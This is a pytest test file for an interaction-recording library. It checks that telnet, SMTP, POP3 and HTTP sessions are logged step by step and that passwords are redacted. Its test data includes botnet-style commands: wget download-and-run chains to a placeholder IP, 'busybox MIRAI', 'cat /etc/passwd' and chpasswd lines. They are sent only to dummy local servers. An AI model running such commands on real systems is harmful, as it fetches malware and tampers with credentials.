"""Interactions: what a client sent until it was answered, and the answer; on real servers, and never a login."""

from __future__ import annotations

import base64
import re
import smtplib
import socket
import socketserver
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

import sessionspan
from sessionspan import free_text, handler_session, interactions, own, settings
from sessionspan.events import Command
from sessionspan.testing import RecordedEvent, Recorder
from sessionspan_aiosmtpd import AiosmtpdInstrumentor
from tests.canary import found_in
from tests.instrumentation import kit_aiosmtpd
from tests.kit_servers import Boom, POP3Handler, SMTPHandler, serving

SECRET = b"CanaryPassw0rd-7f3a"


@pytest.fixture(autouse=True)
def recorded(recorder: Recorder) -> Iterator[None]:
    own.SCOPE.bind(recorder.tracer_provider, recorder.logger_provider, recorder.meter_provider)
    yield
    own.SCOPE.unbind()


@pytest.fixture(autouse=True)
def switched_on(monkeypatch: pytest.MonkeyPatch) -> None:
    choose(monkeypatch, interactions="on", capture="content")


def choose(monkeypatch: pytest.MonkeyPatch, **chosen: str) -> None:
    for name, value in chosen.items():
        monkeypatch.setenv(f"SESSIONSPAN_{name.upper()}", value)
    settings.reload()


class Shell(socketserver.StreamRequestHandler):
    """A login, and a shell that says how long what it was given is; of a protocol that nobody knows."""

    def handle(self) -> None:
        self.wfile.write(b"welcome\r\nlogin: ")
        self.rfile.readline()
        self.wfile.write(b"Password: ")
        self.rfile.readline()
        self.wfile.write(b"\r\n$ ")
        for line in self.rfile:
            if line.strip() == b"boom":
                raise Boom
            if line.strip() == b"exit":
                return
            self.wfile.write(b"sh: %d: not found\r\n$ " % len(line.strip()))


class Echo(socketserver.BaseRequestHandler):
    """Says the same again."""

    def handle(self) -> None:
        while data := self.request.recv(65536):
            self.request.sendall(data)


class Peer:
    """A client that waits for what it expects."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.address = self.socket.getsockname()

    def read_to(self, end: bytes) -> bytes:
        data = b""
        while not data.endswith(end) and (more := self.socket.recv(65536)):
            data += more
        return data

    def say(self, data: bytes, end: bytes) -> bytes:
        self.socket.sendall(data)
        return self.read_to(end)


def told(recorder: Recorder) -> list[tuple[Any, ...]]:
    return [
        tuple(event.attributes.get(f"sessionspan.{key}") for key in ("input.text", "output.text"))
        for event in recorder.named("interaction")
    ]


def speak_shell(recorder: Recorder, *lines: bytes, user: bytes = b"root", password: bytes = SECRET) -> None:
    with serving(handler_session("telnet")(Shell)) as server:
        peer = Peer(server.port)
        peer.read_to(b"login: ")
        peer.say(user + b"\r\n", b"Password: ")
        peer.say(password + b"\r\n", b"$ ")
        for line in lines:
            peer.say(line + b"\r\n", b"$ ")
        peer.socket.sendall(b"exit\r\n")
        peer.read_to(b"\0")
        peer.socket.close()
        recorder.wait_for_session()


def test_a_dialogue_of_any_protocol_is_told_step_by_step(recorder: Recorder) -> None:
    speak_shell(recorder, b"uname -a", b"wget http://198.51.100.7/bins.sh")
    assert told(recorder) == [
        ("root\\r\\n", "Password: "),
        (None, None),
        ("uname -a\\r\\n", "sh: 8: not found\\r\\n$ "),
        ("wget http://198.51.100.7/bins.sh\\r\\n", "sh: 32: not found\\r\\n$ "),
        ("exit\\r\\n", None),
    ]
    first, password, *_, last = recorder.named("interaction")
    assert (first["sessionspan.input.size"], first["sessionspan.output.size"]) == (6, 10)
    assert (password["sessionspan.input.size"], password["sessionspan.output.size"]) == (len(SECRET) + 2, 4)
    assert 0 < first["sessionspan.interaction.duration"] < 5
    assert last["sessionspan.output.size"] == 0
    assert "sessionspan.interaction.duration" not in last.attributes
    assert recorder.transcript()[0] == "session.start"
    assert recorder.transcript()[-1] == "session.end"
    assert found_in(recorder.everything().encode(), [SECRET]) == []


def test_an_interaction_is_of_its_session_and_says_when_it_was_answered(recorder: Recorder) -> None:
    speak_shell(recorder, b"id")
    span = recorder.wait_for_session()
    assert span.context is not None
    for event in recorder.named("interaction"):
        assert event.trace_id == f"{span.context.trace_id:032x}"
        assert event["client.address"] == "127.0.0.1"
        assert event["network.protocol.name"] == "telnet"
    times = [event.timestamp for event in recorder.events]
    assert times == sorted(times)
    assert [event.name for event in span.events].count("sessionspan.interaction") == 4
    assert recorder.named("interaction")[2].body.startswith("interaction 4 B 20 B ")


def test_it_is_off_unless_asked_for(recorder: Recorder, monkeypatch: pytest.MonkeyPatch) -> None:
    choose(monkeypatch, interactions="off")
    speak_shell(recorder, b"id")
    assert recorder.named("interaction") == []


@pytest.mark.parametrize("level", ["metadata", "commands"])
def test_below_content_there_are_sizes_only(
    level: str, recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    choose(monkeypatch, capture=level)
    speak_shell(recorder, b"id")
    assert told(recorder) == [(None, None)] * 4
    assert recorder.named("interaction")[2]["sessionspan.input.size"] == 4


def test_at_capture_off_there_are_none(recorder: Recorder, monkeypatch: pytest.MonkeyPatch) -> None:
    choose(monkeypatch, capture="off")
    speak_shell(recorder, b"id")
    assert recorder.named("interaction") == []


def test_text_is_escaped_and_cut_and_its_size_is_told(recorder: Recorder) -> None:
    evil = b"\x1b[2J\0\xff" + b"a" * 10_000
    with serving(handler_session("echo")(Echo)) as server:
        peer = Peer(server.port)
        peer.socket.sendall(evil)
        seen = b""
        while len(seen) < len(evil):
            seen += peer.socket.recv(65536)
        peer.socket.close()
        recorder.wait_for_session()
    found = recorder.named("interaction")
    # The server may have taken it in more than one piece, and answered each.
    assert sum(event["sessionspan.input.size"] for event in found) == len(evil)
    text = found[0]["sessionspan.input.text"]
    assert text.startswith("\\x1b[2J\\x00\\xffaaa")
    assert len(text) <= interactions.TEXT_LIMIT + 20
    assert text.isprintable()


def test_what_an_observer_knows_is_told_as_it_lets_it_out(recorder: Recorder) -> None:
    class Closes(SMTPHandler):
        pass

    with serving(handler_session("smtp")(Closes)) as server:
        with smtplib.SMTP("127.0.0.1", server.port, timeout=5, local_hostname="attacker.example") as client:
            client.docmd("AUTH", "PLAIN " + base64.b64encode(b"\0bob\0" + SECRET).decode())
            client.docmd("EHLO", "attacker.example")
            client.docmd("MAIL", "FROM:<a@x.org>")
            client.docmd("RCPT", "TO:<b@y.org>")
            client.data(b"Subject: hi\r\n\r\n" + SECRET)
            client.docmd(SECRET.decode())
        recorder.wait_for_session()
    assert [(sent, answered) for sent, answered in told(recorder)][:5] == [
        ("AUTH", "250"),
        ("EHLO attacker.example", "250 ok"),
        ("MAIL FROM:<a@x.org>", "250 ok"),
        ("RCPT TO:<b@y.org>", "250 ok"),
        (None, None),
    ]
    assert told(recorder)[5:] == [("DATA", "250 queued"), ("_OTHER", "250"), ("QUIT", "221 bye")]
    assert recorder.named("interaction")[5]["sessionspan.input.size"] > len(SECRET)
    assert found_in(recorder.everything().encode(), [SECRET]) == []


def test_an_envelope_in_an_input_goes_where_envelopes_may_go(
    recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    def speak() -> None:
        with serving(handler_session("smtp")(type("Of", (SMTPHandler,), {}))) as server:
            with smtplib.SMTP("127.0.0.1", server.port, timeout=5, local_hostname="x.example") as client:
                client.docmd("MAIL", "FROM:<alice@x.org>")
                client.docmd("NOOP", "well")
            recorder.wait_for_session()

    speak()
    on_span = [dict(event.attributes or {}) for event in recorder.sessions[0].events]
    assert "alice" not in repr(on_span)
    assert "NOOP well" in repr(on_span)
    assert "MAIL FROM:<alice@x.org>" in repr(told(recorder))
    recorder.clear()
    choose(monkeypatch, envelope="off")
    speak()
    assert "alice" not in recorder.everything()
    assert ("NOOP well", "250 ok") in told(recorder)


def test_pipelined_commands_are_one_interaction_when_they_came_at_once(recorder: Recorder) -> None:
    with serving(handler_session("pop3")(type("Of", (POP3Handler,), {}))) as server:
        peer = Peer(server.port)
        peer.read_to(b"\n")
        peer.say(b"USER alice\r\nPASS " + SECRET + b"\r\nRETR 1\r\nQUIT\r\n", b"bye\r\n")
        peer.socket.close()
        recorder.wait_for_session()
    ((sent, answered),) = told(recorder)
    assert sent == "USER alice\\nPASS\\nRETR 1\\nQUIT"
    assert answered.startswith("OK\\nERR\\nOK")
    assert found_in(recorder.everything().encode(), [SECRET]) == []


def test_the_answer_to_what_made_the_application_raise_is_not_told(recorder: Recorder) -> None:
    """Servers answer with the text of the exception, which may quote a password."""

    class Quotes(SMTPHandler):
        def handle(self) -> None:
            line = self.rfile.readline()
            session = manual_session()
            session.failed(ValueError(line.decode()))
            self.wfile.write(b"500 Error: (ValueError) " + line)
            self.wfile.flush()
            self.rfile.readline()

    from sessionspan import current_session

    def manual_session() -> Any:
        found = current_session()
        assert found is not None
        return found

    with serving(handler_session("smtp")(Quotes)) as server:
        peer = Peer(server.port)
        peer.read_to(b"\n")
        peer.say(b"NOOP hello\r\n", b"\n")
        peer.say(b"QUIT\r\n", b"\0")
        peer.socket.close()
        recorder.wait_for_session()
    assert told(recorder)[0] == ("NOOP hello", None)


def test_a_proxys_header_is_no_interaction(recorder: Recorder) -> None:
    class Behind(kit_aiosmtpd.Handler):
        async def handle_PROXY(self, server: Any, session: Any, envelope: Any, proxy_data: Any) -> bool:
            return True

    providers = ("tracer_provider", "logger_provider", "meter_provider")
    AiosmtpdInstrumentor().instrument(**{name: getattr(recorder, name) for name in providers})
    try:
        with kit_aiosmtpd.serving(Behind(), proxy_protocol_timeout=5) as server:
            client = server.connect()
            client.send(b"PROXY TCP4 198.51.100.7 192.0.2.1 40000 25\r\n")
            client.read_reply()
            client.command(b"EHLO client.example")
            client.command(b"QUIT")
            client.close()
            recorder.wait_for_session()
    finally:
        AiosmtpdInstrumentor().uninstrument()
    assert told(recorder) == [("EHLO client.example", "250 HELP"), ("QUIT", "221 Bye")]
    assert {event["client.address"] for event in recorder.named("interaction")} == {"198.51.100.7"}


# What looks like a login.

LOGINS: dict[str, tuple[bytes, bytes]] = {
    "a prompt": (b"Password: ", SECRET),
    "a prompt with a user": (b"bob's password: ", SECRET),
    "a prompt in German": ("Passwort für root: ".encode(), SECRET),
    "a prompt in Chinese": ("请输入密码\uff1a".encode(), SECRET),
    "a prompt of a line": (b"Enter password\r\n", SECRET),
    "a prompt, and stars": (b"Password: ****", SECRET),
    "a passphrase": (b"Enter passphrase for key '/root/.ssh/id': ", SECRET),
    "name and password at once": (b"login: ", b"root\r\n" + SECRET),
    "name and password at once, telnet": (b"login: ", b"root\r\0" + SECRET + b"\r\0"),
    "POP3": (b"+OK\r\n", b"PASS " + SECRET),
    "IMAP": (b"* OK\r\n", b"1 LOGIN bob " + SECRET),
    "SMTP": (b"220 x\r\n", b"AUTH PLAIN " + base64.b64encode(b"\0bob\0" + SECRET)),
    "a challenge of SMTP": (b"334 UGFzc3dvcmQ6\r\n", base64.b64encode(SECRET)),
    "a challenge of IMAP": (b"+ \r\n", base64.b64encode(b"\0bob\0" + SECRET)),
    "IRC": (b":x NOTICE * :hi\r\n", b"NICK bob\r\nPASS " + SECRET),
    "HTTP": (b"", b"GET / HTTP/1.1\r\nAuthorization: Basic " + base64.b64encode(b"bob:" + SECRET)),
    "a cookie": (b"", b"GET / HTTP/1.1\r\nhost: x\r\ncookie: sid=" + SECRET),
    "a form": (b"", b"POST /login HTTP/1.1\r\n\r\nuser=bob&password=" + SECRET),
    "JSON": (b"", b'{"method":"login","params":{"login":"x","pass":"' + SECRET + b'"}}'),
    "a URL": (b"$ ", b"curl http://bob:" + SECRET + b"@198.51.100.7/x"),
    "an option": (b"$ ", b"mysql --password=" + SECRET),
    "chpasswd": (b"$ ", b'echo "root:' + SECRET + b'"|chpasswd'),
    "passwd": (b"$ ", b'echo -e "' + SECRET + b"\\n" + SECRET + b'" | passwd'),
    "a variable": (b"$ ", b"export API_KEY='x'; export PASSWORD=" + SECRET),
}


class Asks(socketserver.BaseRequestHandler):
    """Shows a prompt, and quotes what it gets."""

    prompt = b""

    def handle(self) -> None:
        self.request.sendall(self.prompt or b"\r\n")
        data = self.request.recv(65536)
        self.request.sendall(b"wrong: " + data + b"\0")
        self.request.recv(10)


@pytest.mark.parametrize("way", LOGINS)
def test_what_looks_like_a_login_is_told_by_its_size_only(way: str, recorder: Recorder) -> None:
    prompt, said = LOGINS[way]
    with serving(handler_session("anything")(type("Of", (Asks,), {"prompt": prompt}))) as server:
        peer = Peer(server.port)
        peer.read_to(prompt or b"\n")
        peer.say(said + b"\r\n", b"\0")
        peer.socket.close()
        recorder.wait_for_session()
    assert told(recorder) == [(None, None)]
    assert recorder.named("interaction")[0]["sessionspan.input.size"] == len(said) + 2
    assert found_in(recorder.everything().encode(), [SECRET]) == []


@pytest.mark.parametrize(
    "said",
    [
        "cat /etc/passwd",
        "uname -a; id",
        "cd /tmp || cd /var/run; wget http://198.51.100.7:8080/bins.sh; sh bins.sh",
        "/bin/busybox MIRAI",
        "GET /index.html?id=1 HTTP/1.1\r\nHost: x:80\r\n\r\n",
        "EHLO attacker.example",
        "*1\r\n$4\r\nINFO\r\n",
        "ls -la; last; who; w",
    ],
)
@pytest.mark.parametrize(
    "shown", ["$ ", "root@srv:~# ", "220 mx.example\r\n", "Last login: Mon on pts/0\r\n$ ", ""]
)
def test_what_honeypots_want_to_see_does_not_look_like_a_login(said: str, shown: str) -> None:
    assert not free_text.holds_login(shown, said, "sh: not found\r\n$ ")


@pytest.mark.parametrize(
    "text", ["\n" * 4096, "pin " * 1024, "a" * 4096, "://" * 1365, "x " * 2048, "password" * 512]
)
def test_no_text_takes_the_rules_long(text: str) -> None:
    """Each of them would take minutes if a rule went back and forth in it; the timeout of pytest is the judge."""
    for _ in range(50):
        free_text.holds_login(text[-free_text.PROMPT :], text, text)


# Bounds.


class Said:
    """An observer that says what it is told to."""

    end_reason: str | None = None
    unfinished = False
    in_content = False
    events: Sequence[Any] = ()

    def client_sent(self, data: bytes) -> Sequence[Any]:
        return ()

    def server_sent(self, data: bytes) -> Sequence[Any]:
        return self.events

    def finish(self) -> Sequence[Any]:
        return ()


def test_many_commands_in_one_input_are_cut(recorder: Recorder) -> None:
    said = Said()
    said.events = [Command(command="NOOP", sequence=1, reply_code=250, text="x" * 100)] * 1000
    with sessionspan.session("SMTP") as session:
        watching = interactions.observed(session, said)
        watching.client_sent(b"NOOP\r\n")
        watching.server_sent(b"250\r\n")
        watching.finish()
    (event,) = recorder.named("interaction")
    assert len(event["sessionspan.input.text"].replace("\\n", "\n")) == interactions.TEXT_LIMIT


def test_a_flood_of_interactions_leaves_room_for_what_matters(
    recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    choose(monkeypatch, max_events="10")
    speak_shell(recorder, *[b"id"] * 50)
    assert len(recorder.named("interaction")) == 10
    assert recorder.named("session.end")
    dropped = (recorder.wait_for_session().attributes or {})["sessionspan.event.dropped.count"]
    assert dropped == 53 - 10


def shown(event: RecordedEvent) -> str:
    return re.sub(r"\d+\.\d ms", "N ms", event.body)


def test_its_line_for_people_has_what_matters_first(recorder: Recorder) -> None:
    speak_shell(recorder, b"id")
    assert shown(recorder.named("interaction")[2]) == (
        "interaction 4 B 20 B N ms id\\r\\n sh: 2: not found\\r\\n$ "
    )
